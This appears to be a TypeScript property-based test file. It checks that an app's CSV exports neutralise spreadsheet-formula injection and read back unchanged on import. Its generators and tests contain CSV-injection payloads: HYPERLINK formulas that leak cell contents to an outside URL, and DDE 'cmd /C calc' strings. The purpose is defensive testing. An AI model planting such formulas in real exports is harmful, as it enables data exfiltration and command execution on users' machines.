import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { decodeCsv, detectDelimiter, parseCsv, writeCsv } from '../../shared/formats/csv';
import { planToCsv } from '../../shared/plan/csv';
import { registerToCsv } from '../../shared/register/csv-export';
import { autoMapColumns } from '../../shared/register/csv-fields';
import { planRegisterImport } from '../../shared/register/csv-import';

/**
 * CSV injection (OWASP): a cell that starts with = + - @, a tab or a carriage return is run
 * as a formula by Excel and LibreOffice. Every CSV Touchstone writes puts an apostrophe
 * before such a cell, and its import takes the apostrophe off, so a file Touchstone wrote
 * reads back as it was.
 */

const RISKY_START = /^[=+\-@\t\r]/;

/** A text that starts the way an attacker or an unlucky statement would. */
const start = fc.constantFrom(
  '',
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  "'",
  "'=",
  "''+",
  "'\t",
  '=HYPERLINK("http://example.com/?leak="&B2, "Details")',
  "=cmd|' /C calc'!A0",
  '-2+3',
);
const rest = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const anyText = fc.tuple(start, rest).map(([a, b]) => a + b);

/** The cells of a CSV as a spreadsheet reads them: unquoted, nothing taken off. */
function cellsAsSpreadsheetSees(bytes: Uint8Array): string[] {
  const text = new TextDecoder().decode(bytes.subarray(3));
  return Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' }).data.flat();
}

function readBack(bytes: Uint8Array) {
  const { text } = decodeCsv(bytes);
  return parseCsv(text, detectDelimiter(text));
}

/** What the import makes of a cell written without any risk: line ends as \n, trimmed. */
const asImported = (text: string) => text.replace(/\r\n?/g, '\n').trim();

describe('the CSV writer', () => {
  it('writes no cell that a spreadsheet would run, whatever the text', () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 6 }), (texts) => {
        const cells = cellsAsSpreadsheetSees(
          writeCsv(
            ['Text'],
            texts.map((t) => [t]),
          ),
        );
        for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(RISKY_START);
      }),
      { numRuns: 300 },
    );
  });

  it('puts an apostrophe before a formula and quotes it, as OWASP advises', () => {
    const bytes = writeCsv(['Statement'], [['=HYPERLINK("http://x/?leak="&B2, "Details")']]);
    expect(new TextDecoder().decode(bytes.subarray(3))).toBe(
      'Statement\r\n"\'=HYPERLINK(""http://x/?leak=""&B2, ""Details"")"\r\n',
    );
  });

  it('leaves numbers as numbers: no number is a formula', () => {
    const bytes = writeCsv(['Threshold', 'Text'], [[-5, '-5']]);
    expect(new TextDecoder().decode(bytes.subarray(3))).toBe('Threshold,Text\r\n-5,"\'-5"\r\n');
  });

  it('reads back every text as the import reads it, the apostrophe taken off again', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(anyText, anyText), { minLength: 1, maxLength: 6 }), (rows) => {
        const written = rows.map(([a, b]) => ['row', a, b]);
        const table = readBack(writeCsv(['Key', 'A', 'B'], written));
        expect(table.rows.map((r) => r.cells)).toEqual(written.map((r) => r.map(asImported)));
      }),
      { numRuns: 500 },
    );
  });

  it('neutralises the plan CSV too', () => {
    const at = '2026-01-01T00:00:00.000Z';
    const base = { auditId: 'a', createdAt: at, updatedAt: at, version: 1 };
    const bytes = planToCsv({
      actions: [
        {
          ...base,
          id: 'x',
          promiseId: null,
          touchpointId: 't',
          title: '@SUM(1+1)*cmd|" /C calc"!A0',
          currentState: { description: '=1+1', score: null },
          futureState: { description: '+1', targetScore: null, targetDate: null },
          cause: '-1',
          remedy: '\tTab',
          prevention: '',
          owner: '=owner',
          dueDate: null,
          priority: 'high',
          effort: 'small',
          status: 'proposed',
          doneAt: null,
        },
      ],
      stages: [],
      channels: [],
      touchpoints: [],
      promises: [],
      verifications: new Map(),
      today: '2026-01-02',
    });
    const cells = cellsAsSpreadsheetSees(bytes);
    expect(cells).toContain("'=1+1");
    for (const cell of cells) expect(cell).not.toMatch(RISKY_START);
  });
});

/** Text the register keeps and its CSV import takes: no control characters but tab and newline, trimmed. */
// eslint-disable-next-line no-control-regex
const CONTROL_OR_CR = /[\u0000-\u0008\u000B-\u001F\u007F]/g;
const registerText = (max: number) =>
  anyText
    .map((t) => t.replace(CONTROL_OR_CR, '').trim().slice(0, max).trim())
    .filter((t) => t.length > 0);

describe('the register CSV', () => {
  it('imports back exactly as it was exported, formulas and apostrophes included', () => {
    const same = (t: string) => t.toLowerCase().replace(/\s+/g, ' ');
    fc.assert(
      fc.property(
        registerText(120),
        registerText(120),
        registerText(200),
        fc.uniqueArray(registerText(10000), { minLength: 1, maxLength: 5, selector: same }),
        (stageName, channelName, touchpointName, statements) => {
          const at = '2026-01-01T00:00:00.000Z';
          const base = { auditId: 'a', createdAt: at, updatedAt: at, version: 1, description: '' };
          const stage = { ...base, id: 's', name: stageName, order: 0 };
          const channel = { ...base, id: 'c', name: channelName, order: 0 };
          const touchpoint = {
            ...base,
            id: 't',
            stageId: 's',
            channelId: 'c',
            name: touchpointName,
            department: '',
          };
          const promises = statements.map((statement, i) => ({
            ...base,
            id: `p${i}`,
            createdAt: `2026-01-01T00:00:0${i}.000Z`,
            touchpointId: 't',
            statement,
            source: { kind: 'advertising' as const, text: '' },
            customerWording: '',
            kind: 'functional' as const,
            importance: 3,
            target: {
              metric: '-metric',
              unit: '=unit',
              direction: 'at-most' as const,
              threshold: -5,
            },
            belief: null,
          }));
          const table = readBack(
            registerToCsv('promises', {
              stages: [stage],
              channels: [channel],
              touchpoints: [touchpoint],
              promises,
            }),
          );
          const result = planRegisterImport(
            'promises',
            { stages: [], channels: [], touchpoints: [], promises: [] },
            table,
            autoMapColumns('promises', table.header),
          );
          expect(result.ok, JSON.stringify(result)).toBe(true);
          if (!result.ok) return;
          expect(result.plan.stages).toEqual([stageName]);
          expect(result.plan.channels).toEqual([channelName]);
          expect(result.plan.touchpoints.map((t) => t.name)).toEqual([touchpointName]);
          expect(result.plan.promises.map((p) => [p.statement, p.target])).toEqual(
            promises.map((p) => [p.statement, p.target]),
          );
        },
      ),
      { numRuns: 300 },
    );
  });
});
